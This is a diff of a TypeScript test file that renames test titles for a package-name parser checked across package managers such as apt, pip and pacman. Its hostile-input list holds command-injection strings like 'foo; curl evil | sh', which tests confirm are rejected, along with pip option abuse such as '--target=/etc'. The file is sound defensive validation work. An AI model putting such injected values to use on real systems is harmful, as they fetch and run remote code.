@@ -17,7 +17,7 @@ const managers: readonly CommandName[] = [
   "go",
 ];
 
-describe("no manager takes what a shell or its own options would see", () => {
+describe("names that a shell or the package manager would interpret are rejected", () => {
   const hostile = [
     "foo; curl evil | sh",
     "foo && x",
@@ -43,7 +43,7 @@ describe("no manager takes what a shell or its own options would see", () => {
     expect(hostile.filter((text) => readPackage(manager, text))).toEqual([]);
   });
 
-  it("apt takes no package away", () => {
+  it("apt: a trailing dash, which removes a package", () => {
     expect(readPackage("apt", "git-")).toBeUndefined();
   });
 });
@@ -76,7 +76,7 @@ it.each<[CommandName, string, string, string | undefined]>([
     "1",
   ],
   ["pip", "--index-url=https://example.org/simple", "--index-url=https://example.org/simple", undefined],
-])("%s knows %s", (manager, text, name, pin) => {
+])("%s: parses %s", (manager, text, name, pin) => {
   expect(readPackage(manager, text)).toEqual({ name, pin });
 });
 
@@ -92,7 +92,7 @@ it.each([
   "--index-url",
   "--index-url -x",
   "--target=/etc",
-])("pip does not take %s", (text) => {
+])("pip: rejects %s", (text) => {
   expect(readPackage("pip", text)).toBeUndefined();
 });
 
@@ -103,6 +103,6 @@ it.each<[CommandName, string, string]>([
   ["dnf", "a", "a-1"],
   ["pip", `foo[x]>=2; python_version < "4"`, `foo[x]==1; python_version < "4"`],
   ["pacman", "a", "a"],
-])("%s binds a version to %s", (manager, text, bound) => {
+])("%s: adds a version to %s", (manager, text, bound) => {
   expect(withVersion(manager, text, "1")).toBe(bound);
 });
